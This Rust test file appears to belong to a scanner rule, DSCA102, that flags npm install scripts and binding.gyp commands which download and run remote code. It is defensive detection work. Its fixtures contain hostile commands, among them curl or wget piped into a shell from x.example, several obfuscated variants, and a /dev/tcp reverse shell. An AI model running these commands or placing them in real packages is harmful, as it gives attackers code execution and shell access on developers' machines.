use super::*;

#[test]
fn dsca102_download_piped_into_shell() {
    let fixture = tarball_with_scripts(json!({
        "postinstall": "curl -s https://x.example/a.sh | bash", "test": "curl https://x.example"}));
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(
        findings.len(),
        1,
        "scripts that do not run on install are ignored"
    );
}

#[test]
fn dsca102_reverse_shell_is_critical() {
    let fixture =
        tarball_with_scripts(json!({"install": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}));
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca102_benign_install_commands() {
    let fixture = tarball_with_scripts(json!({
        "preinstall": "node-gyp rebuild", "install": "prebuild-install || node-gyp rebuild",
        "postinstall": "node install.js"}));
    assert!(fixture.findings("DSCA102").is_empty());
    // DSCA101 still reports them, at its default low severity.
    assert_eq!(fixture.findings("DSCA101")[0].severity, Severity::Low);
}

#[test]
fn dsca102_inline_node_code_counts_only_when_risky() {
    let fixture = tarball_with_scripts(json!({
        "postinstall": "node -e \"require('child_process').execSync('curl -s https://x.example/a | sh')\""}));
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca102_honest_inline_node_code() {
    // The real install scripts of core-js, core-js-pure and nx; es5-ext; addon helpers.
    for command in [
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",
        "node -p \"require('node-addon-api').include\"",
        "node -e \"console.log('Thank you for using this package!')\"",
    ] {
        let fixture = tarball_with_scripts(json!({"postinstall": command}));
        assert!(fixture.findings("DSCA102").is_empty(), "{command}");
        assert_eq!(fixture.findings("DSCA101")[0].severity, Severity::Low);
    }
}

#[test]
fn dsca102_shell_tricks() {
    let fixture = tarball_with_scripts(json!({
        "preinstall": "bash -lc 'curl -s https://x.example/a.sh | sh'",
        "install": "bash <(c\\url -s https://x.example/b.sh)",
        "postinstall": "source <('wget' -qO- https://x.example/c.sh)"}));
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings.len(), 3);
    assert!(findings.iter().all(|f| f.severity == Severity::High));
}

#[test]
fn dsca102_shell_options_and_substitutions_stay_quiet_when_honest() {
    let fixture = tarball_with_scripts(json!({
        "preinstall": "bash -lc 'node-gyp rebuild'",
        "install": "sh -ec \"node scripts/check.js\" && diff <(cat a.txt) <(cat b.txt) || true",
        "postinstall": "c\\at README.md"}));
    assert!(fixture.findings("DSCA102").is_empty());
}

#[test]
fn dsca102_binding_gyp_commands() {
    let gyp = br#"{
  "targets": [{
    "target_name": "addon",
    "sources": ["src/addon.cc"],
    "include_dirs": ["<!@(node -p \"require('node-addon-api').include\")"],
    "libraries": ["<!(curl -s https://x.example/payload.sh | sh)"]
  }]
}
"#;
    let fixture = tarball_with_scripts(json!({})).file("binding.gyp", gyp);
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity, Severity::High);
    let location = findings[0].evidence[0].location.as_ref().expect("located");
    assert_eq!(
        (location.file.as_str(), location.line),
        ("binding.gyp", Some(6))
    );
    // The implicit `node-gyp rebuild` is an install script like any other.
    assert_eq!(fixture.findings("DSCA101")[0].severity, Severity::Low);
}

#[test]
fn dsca102_honest_binding_gyp() {
    let gyp = br#"{
  'variables': {'sdk%': '<!(python -c "import os; print(os.environ.get(\'SDK_DIR\', \'\'))")'},
  'targets': [{
    'target_name': 'addon',
    'include_dirs': [
      "<!@(node -p \"require('node-addon-api').include\")",
      "<!(node -e \"require('nan')\")",
      "<!(python -c 'import numpy; print(numpy.get_include())')",
    ],
    'dependencies': ["<!(node -p \"require('node-addon-api').gyp\")"],
    'libraries': ['<!@(pkg-config --libs-only-l libfoo)', '<!(curl-config --libs)'],
    'variables': {
      'cuda%': "<!(node -e \"process.stdout.write(process.env.CUDA_PATH || '')\")",
      'root%': "<!(node -p \"process.env.LIB_ROOT || require('node:path').resolve('../..')\")",
      'llvm': '<!@(<(llvm_config) --includedir)',
    },
    'defines': ['V=<!(python -c "import sys; print(sys.argv[1])" <(build_version))'],
  }]
}
"#;
    let fixture = tarball_with_scripts(json!({"install": "node-gyp rebuild"}))
        .file("binding.gyp", gyp)
        .file("common.gypi", b"{'variables': {'x': '<!(echo 1)'}}");
    assert!(fixture.findings("DSCA102").is_empty());
}

#[test]
fn dsca102_gyp_files_that_binding_gyp_includes() {
    let fixture = tarball_with_scripts(json!({}))
        .file(
            "binding.gyp",
            b"{'includes': ['build/common.gypi'], 'targets': []}",
        )
        .file(
            "build/common.gypi",
            b"{\n'variables': {\n'x': '<!(wget -qO- http://x.example | bash)'}}",
        )
        .file("vendor/unused.gypi", b"{'v': '<!(curl x)'}");
    let findings = fixture.findings("DSCA102");
    assert_eq!(findings.len(), 1, "only files binding.gyp names");
    assert_eq!(
        findings[0].message,
        "a command in `build/common.gypi` downloads from the network with `wget` (and 1 more)"
    );
    assert_eq!(
        findings[0].evidence[0]
            .location
            .as_ref()
            .and_then(|l| l.line),
        Some(3)
    );
}
